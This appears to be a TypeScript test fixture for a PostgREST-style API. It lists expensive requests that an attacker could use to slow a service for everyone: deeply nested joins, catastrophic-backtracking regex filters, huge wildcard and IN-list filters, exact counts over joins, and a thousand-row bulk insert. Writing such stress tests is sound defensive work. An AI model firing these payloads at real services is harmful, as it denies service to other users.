// Requests to rest/v1 by an attacker who wants to delay everybody else: all are allowed and as expensive as possible.
const repeat = (count: number, of: (at: number) => string, by = ','): string =>
  Array.from({ length: count }, (_, at) => of(at)).join(by);
const pattern = (text: string): string => encodeURIComponent(text);

export type CostlyRequest = { path: string; method?: 'POST'; headers?: Record<string, string>; body?: unknown };

/** The requests, by kind of attack. */
export const costlyRequests: Record<string, CostlyRequest> = {
  'tables embedded eight deep, there and back': {
    path: `/products?select=id,${repeat(4, (at) => `o${at}:offers(id,p${at}:products(id`)},title_fr${')'.repeat(8)}`,
  },
  'the same table thirty-nine times beside itself': {
    path: `/products?select=${repeat(39, (at) => `a${at}:offers(*)`)}`,
  },
  'a pattern that remembers': {
    path: `/products?select=id&description_fr=match.${pattern('^(.*)(.*)(.*)\\3\\2\\1$')}`,
  },
  'patterns that begin anywhere': {
    path: `/products?select=id&${repeat(5, () => `description_fr=match.${pattern('(.*a){12}(.*b){12}(.*c){12}x$')}`, '&')}`,
  },
  'a pattern of a hundred thousand states': {
    path: `/products?select=id&description_fr=imatch.${pattern('((a{1,100}){1,100}b){1,10}')}`,
  },
  'a hundred percent signs': {
    path: `/products?select=id&description_fr=ilike.${repeat(100, (at) => `*${'eaistnrulo'[at % 10]}`, '')}*%C3%9F`,
  },
  'two hundred alternatives': {
    path: `/products?select=id&or=(${repeat(200, (at) => `description_fr.ilike.*${at}x*`)})`,
  },
  'two thousand of a list': { path: `/products?select=id&slug=in.(${repeat(2000, (at) => `s${at}`)})` },
  'more than an address holds': { path: `/products?select=id&slug=in.(${repeat(6000, (at) => `s${at}`)})` },
  'a hundred columns': { path: `/offers?select=${repeat(100, (at) => `c${at}:id`)},products!inner(*)&limit=1000` },
  'the end of a long list': {
    path: '/offers?select=*,products(*)&order=price_minor.desc&offset=700&limit=1000',
    headers: { prefer: 'count=exact' },
  },
  'counted exactly over joins': {
    path: '/products?select=id,offers!inner(id,sellers!inner(id,offers!inner(id)))',
    headers: { prefer: 'count=exact' },
  },
  'a search': {
    path: '/rpc/search_products',
    method: 'POST',
    body: { query: 'telephone noir pas cher pour la maison' },
  },
  'a thousand rows at once': {
    path: '/ads',
    method: 'POST',
    body: Array.from({ length: 1000 }, (_, at) => ({ title: `x${at}` })),
  },
};
